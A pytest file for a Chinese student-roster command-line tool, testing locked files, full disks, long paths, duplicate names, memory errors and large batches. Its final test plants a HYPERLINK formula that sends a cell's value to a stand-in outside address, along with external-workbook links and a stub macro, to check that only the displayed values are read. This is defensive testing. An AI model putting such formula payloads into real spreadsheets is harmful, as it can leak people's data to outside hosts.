"""What registrars' machines do to a run: locked files, long paths, names that come twice, memory that ends, very many files."""

from __future__ import annotations

import io
import json
import os
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import table_files as make
from cli_rosters import DAY, children, write_roster, write_workbook
from conftest import Outcome

from xueji_cli.commands import inputs
from xueji_cli.tables import writing
from xueji_cli.tables.options import ReadOptions
from xueji_cli.tables.reader import read_tables
from xueji_cli.tables.writing import whole_file

Command = Callable[..., Outcome]
CHECK = ("--as-of", DAY, "--fail-on", "never")


def test_an_input_that_is_locked_stops_no_other(
    command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_roster(tmp_path / "a.csv", children(2))
    write_roster(tmp_path / "b.csv", children(2))
    read = Path.read_bytes

    def locked(path: Path) -> bytes:
        if path.name == "a.csv":
            raise PermissionError(13, "The process cannot access the file because it is being used by another process")
        return read(path)

    monkeypatch.setattr(Path, "read_bytes", locked)
    done = command("check", "a.csv", "b.csv", *CHECK, "--format", "json")
    assert done.status == 2
    assert done.err.count("\n") == 1
    assert "a.csv。如果正在用 Excel 或 WPS 打开它，请先关闭" in done.err
    assert [each["file"] for each in json.loads(done.out)["inputs"]] == ["b.csv"]


def test_an_output_that_is_open_in_excel_stays_as_it_is(
    command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_roster(tmp_path / "a.csv", children(2))
    (tmp_path / "r.xlsx").write_bytes(b"open")
    replace = Path.replace

    def refused(path: Path, target: Path) -> Path:
        if Path(target).name == "r.xlsx":
            raise PermissionError(13, "Access is denied")
        return replace(path, target)

    monkeypatch.setattr(Path, "replace", refused)
    done = command("check", "a.csv", *CHECK, "-o", "r.xlsx", "-o", "r.json")
    assert done.status == 2
    assert "r.xlsx：它可能正在 Excel 或 WPS 中打开。请关闭后再试。" in done.err
    assert (tmp_path / "r.xlsx").read_bytes() == b"open"
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["inputs"]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["a.csv", "r.json", "r.xlsx"]


def test_a_file_is_on_the_disk_before_it_has_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    told: list[str] = []
    sync, replace = os.fsync, Path.replace
    monkeypatch.setattr(writing.os, "fsync", lambda handle: (told.append("on disk"), sync(handle)))
    monkeypatch.setattr(Path, "replace", lambda path, target: (told.append("named"), replace(path, target)))
    with whole_file(tmp_path / "a.csv") as temporary:
        temporary.write_text("x", encoding="utf-8")
    # The folder comes last, where the system has a handle for one.
    assert told == ["on disk", "named", *(["on disk"] if os.name != "nt" else [])]


def test_a_disk_that_tells_only_at_the_end_that_it_is_full(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(handle: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(writing.os, "fsync", full)
    with pytest.raises(writing.UserError) as caught, whole_file(tmp_path / "a.csv") as temporary:
        temporary.write_text("x", encoding="utf-8")
    assert caught.value.key == "output_failed"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(sys.platform == "win32", reason="needs long paths to be switched on")
def test_paths_beyond_260_characters(command: Command, tmp_path: Path) -> None:
    folder = (
        tmp_path
        / ("虚谷县教育局 " * 5).strip()
        / ("2025 年秋季学籍 " * 6).strip()
        / ("各校上报 [终稿] " * 6).strip()
        / ("第二次 " * 16).strip()
    )
    write_roster(folder / "名册.csv", children(2, 照片="无"))
    assert len(str(folder)) > 260 - len("名册.csv")
    done = command("check", folder, *CHECK, "-o", folder / "结果.json", "-o", f"{folder}/副本/")
    assert (done.status, done.err) == (0, "")
    assert json.loads((folder / "结果.json").read_text(encoding="utf-8"))["findings"]
    assert len(list((folder / "副本").iterdir())) == 2


def test_inputs_of_one_name_get_outputs_of_their_own(command: Command, tmp_path: Path) -> None:
    for school in ("甲", "乙", "丙"):
        write_roster(tmp_path / school / "名册.csv", children(2, 学校名称=f"{school}小学"))
    write_roster(tmp_path / "丙" / "名册.txt", children(2))
    done = command("check", "甲", "乙", "丙", *CHECK, "-o", "副本/")
    assert (done.status, done.err) == (0, "")
    assert len(list((tmp_path / "副本").iterdir())) == 5
    done = command("clean", "甲", "乙", "丙", "--as-of", DAY, "-o", "清洗/")
    assert done.err == ""
    assert len({path.name.casefold() for path in (tmp_path / "清洗").iterdir()}) == 4


def test_memory_that_ends_with_one_file_is_said_of_that_file(
    command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_roster(tmp_path / "a.csv", children(2))
    write_roster(tmp_path / "b.csv", children(2))
    read = inputs.read_blob

    def short(blob: object, *arguments: object) -> object:
        if getattr(blob, "path", "") == "a.csv":
            raise MemoryError
        return read(blob, *arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(inputs, "read_blob", short)
    done = command("check", "a.csv", "b.csv", *CHECK, "--format", "json")
    assert done.status == 2
    assert done.err.startswith("xueji: a.csv 太大，内存不够")
    assert [each["file"] for each in json.loads(done.out)["inputs"]] == ["b.csv"]


def test_memory_that_ends_elsewhere_is_no_error_of_the_program(
    command: Command, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from xueji_cli.checks import engine

    def short(*arguments: object) -> object:
        raise MemoryError

    write_roster(tmp_path / "a.csv", children(2))
    monkeypatch.setattr(engine, "judge", short)
    done = command("check", "a.csv", *CHECK, "-o", "r.json")
    assert (done.status, done.err.count("\n")) == (2, 1)
    assert done.err.startswith("xueji: 内存不够")
    assert [path.name for path in tmp_path.iterdir()] == ["a.csv"]


def test_many_files_a_broken_one_among_them_twice_the_same(command: Command, tmp_path: Path) -> None:
    folder = tmp_path / "各校"
    for number in range(9):
        rows = children(3, 学校名称=f"第{number}小学", 照片="无" if number % 3 else "有")
        if number % 3:
            write_roster(folder / f"{number}.csv", rows)
        else:
            folder.mkdir(exist_ok=True)
            write_workbook(folder / f"{number}.xlsx", {"学生": rows})
    (folder / "4坏.xlsx").write_bytes(make.xlsx(make.ROSTER)[:900])
    line = ("check", "各校", *CHECK, "--format", "json")
    first, second = command(*line), command(*line)
    assert (first.status, first.err.count("\n")) == (2, 1)
    assert first == second
    report = json.loads(first.out)
    assert [Path(each["file"]).stem for each in report["inputs"]] == [str(number) for number in range(9)]
    assert [Path(each["file"]).name for each in report["unreadable"]] == ["4坏.xlsx"]
    for line in (("dedupe", "各校", "--as-of", DAY, "--format", "json"), ("clean", "各校", "--as-of", DAY, "-o", "o/")):
        first, second = command(*line), command(*line)
        assert first == second
        assert first.status == 2
        assert first.err.count("4坏.xlsx") == first.err.count("\n") == 1
    assert len(list((tmp_path / "o").iterdir())) == 9


def test_formulas_links_and_macros_are_read_as_what_is_shown(tmp_path: Path) -> None:
    def more(book: object, page: object) -> None:
        page.write_formula("A3", '=HYPERLINK("http://192.0.2.1/"&A2,"李四")', None, "李四")  # type: ignore[attr-defined]
        page.write_formula("B3", "='http://192.0.2.1/[x.xlsx]y'!A1", None, "女")  # type: ignore[attr-defined]
        page.write_url("A4", "http://192.0.2.1/", None, "王五")  # type: ignore[attr-defined]
        page.write_url("B4", "external:\\\\192.0.2.1\\x\\y.xlsx", None, "男")  # type: ignore[attr-defined]

    data = make.xlsx([["姓名", "性别"], ["张三", "男"]], change=more)
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(600))
        archive.writestr("xl/externalLinks/externalLink1.xml", "<externalLink/>")
    path = tmp_path / "a.xlsm"
    path.write_bytes(buffer.getvalue())
    (table,) = read_tables(str(path), ReadOptions(), make.Words())
    assert table.frame.drop("row").rows() == [("张三", "男"), ("李四", "女"), ("王五", "男")]
